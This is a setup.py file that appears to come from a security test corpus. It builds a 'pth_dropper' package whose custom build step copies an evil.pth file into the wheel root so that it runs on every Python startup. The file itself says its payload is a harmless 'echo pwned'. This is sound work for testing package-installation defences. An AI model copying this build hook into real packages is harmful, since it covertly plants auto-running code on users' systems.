# HOSTILE test-corpus package (harmless payload: echo pwned). See README.md.
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import pgattack  # noqa: E402
from setuptools import setup  # noqa: E402
from setuptools.command.build_py import build_py as _build_py  # noqa: E402


class build_py(_build_py):
    """Copy evil.pth to the root of build_lib, i.e. the root of the wheel (purelib)."""

    def run(self):
        super().run()
        target = os.path.join(self.build_lib, "evil.pth")
        try:
            self.mkpath(self.build_lib)
            self.copy_file(os.path.join(HERE, "evil.pth"), target)
            pgattack.log("drop evil.pth into %s" % self.build_lib, "ok")
        except Exception as exc:
            pgattack.log("drop evil.pth into %s" % self.build_lib, "error %r" % (exc,))

    def get_outputs(self, include_bytecode=1):
        return super().get_outputs(include_bytecode) + [os.path.join(self.build_lib, "evil.pth")]


setup(name="pth_dropper", version="0.1.0", packages=["pth_dropper"], cmdclass={"build_py": build_py})
